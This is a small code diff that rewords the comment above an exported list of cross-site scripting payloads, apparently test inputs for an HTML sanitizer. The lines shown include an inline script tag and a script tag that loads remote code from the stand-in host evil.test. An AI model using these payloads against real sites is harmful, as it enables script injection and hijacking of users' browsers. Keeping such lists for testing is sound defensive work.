@@ -1,4 +1,4 @@
-/** Ways to run a script, or to lead somebody away, that HTML from elsewhere has been known to try. */
+/** Known ways in which hostile HTML runs a script or links to another site. */
 export const xssPayloads = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
